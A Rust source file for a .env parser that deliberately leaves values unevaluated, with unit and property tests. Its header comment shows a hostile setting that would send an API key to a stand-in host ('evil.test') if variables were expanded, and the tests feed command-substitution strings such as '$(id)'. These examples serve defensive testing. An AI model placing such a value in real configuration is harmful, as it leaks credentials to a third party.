//! Reads `.env` files.
//!
//! Other parsers replace `$NAME` in values with environment variables. A hostile file could then set
//! `TFY_BASE_URL=https://evil.test/$TFY_API_KEY`. This parser never evaluates values.

use std::collections::HashMap;
use std::io;
use std::path::Path;

use super::{env, file};
use crate::untrusted::enumerate;

/// The variables in a `.env` file. It has no `Debug`, because it may contain an API key.
#[derive(Default)]
pub struct DotEnv {
    values: HashMap<String, String>,
    /// Warning about a file that cannot be used, or about malformed lines with a variable that this program reads.
    pub warning: Option<String>,
}

impl DotEnv {
    /// Reads the file. A missing file is empty; an unreadable file is empty and has a warning.
    pub fn read(path: &Path) -> Self {
        let parsed = file::read_in_shared_directory(path).and_then(|bytes| {
            let text = decode(&bytes).ok_or_else(|| io::Error::other("it is not valid UTF-8 or UTF-16"))?;
            Ok(Self::parse(&text))
        });
        match parsed {
            Ok(file) => file,
            Err(error) if error.kind() == io::ErrorKind::NotFound => Self::default(),
            Err(error) => Self { warning: Some(format!("ignoring .env: {error}")), ..Self::default() },
        }
    }

    /// The value of a variable. If several lines set it, the last one counts.
    pub fn get(&self, name: &str) -> Option<&str> {
        self.values.get(name).map(String::as_str)
    }

    pub fn parse(text: &str) -> Self {
        let mut file = Self::default();
        let mut malformed: Vec<String> = Vec::new();
        let mut rest = text;
        let mut line_number = 1;
        while !rest.is_empty() {
            let (line, length) = statement(rest);
            if let Some((name, value)) = assignment(line) {
                file.values.insert(name.to_owned(), value.to_owned());
            } else if is_for_us(line) {
                malformed.push(line_number.to_string());
            }
            line_number += rest[..length].matches('\n').count();
            rest = &rest[length..];
        }
        if !malformed.is_empty() {
            let lines = if malformed.len() == 1 { "line" } else { "lines" };
            file.warning = Some(format!("ignoring {lines} {} of .env: expected KEY=value", enumerate(&malformed)));
        }
        file
    }
}

/// Decodes UTF-8, or UTF-16 with a byte order mark, as PowerShell writes it. Removes that mark.
fn decode(bytes: &[u8]) -> Option<String> {
    let from_units = |unit: fn([u8; 2]) -> u16| {
        let (units, rest) = bytes[2..].as_chunks();
        let units: Vec<u16> = units.iter().copied().map(unit).collect();
        String::from_utf16(&units).ok().filter(|_| rest.is_empty())
    };
    match bytes {
        [0xff, 0xfe, ..] => from_units(u16::from_le_bytes),
        [0xfe, 0xff, ..] => from_units(u16::from_be_bytes),
        _ => std::str::from_utf8(bytes).ok().map(str::to_owned),
    }
}

/// Returns `true` if the line begins with a variable that this program reads. Other lines are not warned about.
fn is_for_us(line: &str) -> bool {
    let line = without_export(line.trim());
    [env::KEY].iter().chain(&env::BASE_URLS).any(|name| line.starts_with(name))
}

/// Returns the next statement and its length in bytes with the line break. A quoted value may span several lines, if no more text
/// follows it.
fn statement(text: &str) -> (&str, usize) {
    let line_end = text.find('\n').unwrap_or(text.len());
    let line = &text[..line_end];
    if let Some((_, value)) = line.split_once('=')
        && let Some(quote @ ('"' | '\'')) = value.trim_start().chars().next()
        && !line.trim_start().starts_with('#')
    {
        let opened = line_end - value.trim_start().len() + 1;
        if !text[opened..line_end].contains(quote)
            && let Some(closed) = text[opened..].find(quote)
        {
            let end = text[opened + closed..].find('\n').map_or(text.len(), |at| opened + closed + at);
            // Otherwise the quote of this line was never closed, and the other one belongs to a later value.
            if is_comment(&text[opened + closed + 1..end]) {
                return (&text[..end], (end + 1).min(text.len()));
            }
        }
    }
    (line, (line_end + 1).min(text.len()))
}

/// Splits `NAME=value`, with an optional `export` before it, and removes the quotes around the value.
fn assignment(line: &str) -> Option<(&str, &str)> {
    let line = without_export(line.trim());
    let (name, value) = line.split_once('=')?;
    let name = name.trim();
    let is_name = !name.is_empty()
        && !name.starts_with(|c: char| c.is_ascii_digit())
        && name.chars().all(|c| c.is_ascii_alphanumeric() || c == '_' || c == '.');
    is_name.then(|| unquoted(value.trim()).map(|value| (name, value)))?
}

/// Removes the quotes around a value or, if it has none, the comment after it.
fn unquoted(value: &str) -> Option<&str> {
    let Some(quote @ ('"' | '\'')) = value.chars().next() else {
        let end = value.find(" #").or_else(|| value.find("\t#")).unwrap_or(value.len());
        return Some(if value.starts_with('#') { "" } else { value[..end].trim_end() });
    };
    let (inside, after) = value[1..].split_once(quote)?;
    is_comment(after).then_some(inside)
}

fn without_export(line: &str) -> &str {
    let exported = line.strip_prefix("export").filter(|rest| rest.starts_with([' ', '\t']));
    exported.map_or(line, str::trim_start)
}

/// Returns `true` if the text is a comment or blank.
fn is_comment(text: &str) -> bool {
    let text = text.trim_start();
    text.is_empty() || text.starts_with('#')
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;

    use super::*;

    #[test]
    fn parse_reads_common_forms() {
        let file = DotEnv::parse(concat!(
            "# settings\r\n\nTFY_API_KEY = tfy_abc # mine\nexport TFY_BASE_URL=\"https://a.test\" # there\n",
            "SINGLE='a # b'\nEMPTY=\nTFY_API_KEY=tfy_def\nHASH=a#b\nPEM=\"one\ntwo\"\nLAST=x",
        ));
        let read = |name| file.get(name);
        assert_eq!(read("TFY_API_KEY"), Some("tfy_def"));
        assert_eq!(read("TFY_BASE_URL"), Some("https://a.test"));
        assert_eq!((read("SINGLE"), read("EMPTY"), read("HASH")), (Some("a # b"), Some(""), Some("a#b")));
        assert_eq!((read("PEM"), read("LAST")), (Some("one\ntwo"), Some("x")));
        assert_eq!(file.warning, None);
    }

    #[test]
    fn values_are_not_evaluated() {
        let file = DotEnv::parse("A=$HOME\nB=\"${HOME}\"\nC=`id`\nD=\"$(id)\"\nE=\\n");
        assert_eq!(file.get("A"), Some("$HOME"));
        assert_eq!(file.get("B"), Some("${HOME}"));
        assert_eq!((file.get("C"), file.get("D"), file.get("E")), (Some("`id`"), Some("$(id)"), Some("\\n")));
    }

    #[test]
    fn malformed_line_of_our_variable_warns() {
        let file = DotEnv::parse("A=1\nwhat is this\nexport TFY_HOST\nB='open\nTFY_API_KEY='open\nC=3\n");
        assert_eq!((file.get("A"), file.get("C")), (Some("1"), Some("3")));
        assert_eq!(file.warning.as_deref(), Some("ignoring lines 3, 5 of .env: expected KEY=value"));
        assert_eq!(DotEnv::parse("what is this\n=2\nB='open").warning, None);
    }

    #[test]
    fn unclosed_quote_swallows_no_other_line() {
        let file = DotEnv::parse("A=\"open\nTFY_API_KEY=\"tfy_a\"\nB=\"b\"\nC='one\ntwo' # c\n");
        assert_eq!((file.get("A"), file.get("TFY_API_KEY")), (None, Some("tfy_a")));
        assert_eq!((file.get("B"), file.get("C")), (Some("b"), Some("one\ntwo")));
    }

    #[test]
    fn utf16_is_decoded() {
        for (mark, bytes) in [(u16::to_le_bytes as fn(u16) -> [u8; 2]), u16::to_be_bytes].map(|bytes| (0xfeff, bytes)) {
            let units = [mark].into_iter().chain("A=é\r\n".encode_utf16());
            let file: Vec<u8> = units.flat_map(bytes).collect();
            assert_eq!(decode(&file).as_deref(), Some("A=é\r\n"));
            assert_eq!(decode(&file[..file.len() - 1]), None);
        }
    }

    proptest! {
        #[test]
        fn any_text_is_parsed_without_panic(text in any::<String>(), lines in "([A-Z'\"=# \n]{0,60})") {
            let _ = DotEnv::parse(&text);
            let _ = DotEnv::parse(&lines);
        }
    }
}
